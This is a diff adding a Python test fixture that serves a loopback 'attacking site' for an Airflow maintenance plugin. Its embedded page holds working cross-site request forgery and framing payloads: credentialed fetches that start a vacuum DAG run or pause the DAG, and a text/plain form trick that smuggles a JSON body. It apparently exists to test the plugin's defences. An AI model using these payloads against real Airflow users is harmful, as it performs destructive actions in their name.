@@ -1,0 +1,67 @@
+"""A web site that a signed-in user of Airflow visits, and that acts in that user's name."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from contextlib import contextmanager
+from urllib.parse import urlsplit
+
+from delta_maintenance.testing.loopback import Reply, Request, serve
+
+_PAGE = """<!doctype html>
+<title>attacking</title>
+<iframe name="sink"></iframe>
+<iframe id="framed" src="TARGET/delta-maintenance/run?name=orders"></iframe>
+<form method="post" enctype="text/plain" target="sink" action="TARGET/RUNS"></form>
+<script>
+(async () => {
+  const conf = {operation: "vacuum", table_uri: "s3://lake/sales/orders"};
+  const body = JSON.stringify({logical_date: null, conf});
+  const json = {"Content-Type": "application/json"};
+  const requests = [
+    ["RUNS", {method: "POST", headers: json, body}],
+    ["RUNS", {method: "POST", headers: {"Content-Type": "text/plain"}, body}],
+    ["RUNS", {method: "POST", mode: "no-cors", body}],
+    // Without a type, a body may be taken for JSON.
+    ["RUNS", {method: "POST", mode: "no-cors", body: new Blob([body])}],
+    ["DAG?update_mask=is_paused", {method: "PATCH", headers: json, body: '{"is_paused": true}'}],
+    ["delta-maintenance/", {}],
+    ["delta-maintenance/table?name=orders", {}],
+  ];
+  const read = [];
+  for (const [path, options] of requests) {
+    try {
+      const answer = await fetch(`TARGET/${path}`, {credentials: "include", ...options});
+      read.push(answer.type === "opaque" ? "" : await answer.text());
+    } catch {
+      read.push("");
+    }
+  }
+  const form = document.querySelector("form");
+  // As text/plain, a name and a value make a JSON document, with "=" within a text.
+  const field = document.createElement("input");
+  field.name = body.slice(0, -1) + ',"note":"';
+  field.value = '"}';
+  form.append(field);
+  const sent = new Promise((done) => document.querySelector("[name=sink]").onload = done);
+  form.submit();
+  await Promise.race([sent, new Promise((done) => setTimeout(done, 5000))]);
+  window.readAnswers = read;
+})();
+</script>
+"""
+
+
+@contextmanager
+def attacking_site(target: str, *, same_site: bool) -> Iterator[str]:
+    """Serves the site. `same_site`: it is another port of the same host, and gets its cookies."""
+    runs = "api/v2/dags/delta_manual/dagRuns"
+    page = _PAGE.replace("TARGET", target).replace("RUNS", runs).replace("DAG?", f"{runs[:-8]}?")
+
+    def answer(request: Request) -> Reply:
+        return Reply(status=200, headers={"Content-Type": "text/html"}, body=page.encode())
+
+    with serve(answer) as address:
+        parts = urlsplit(address)
+        host = parts.hostname if same_site else "localhost"
+        yield f"http://{host}:{parts.port}/"
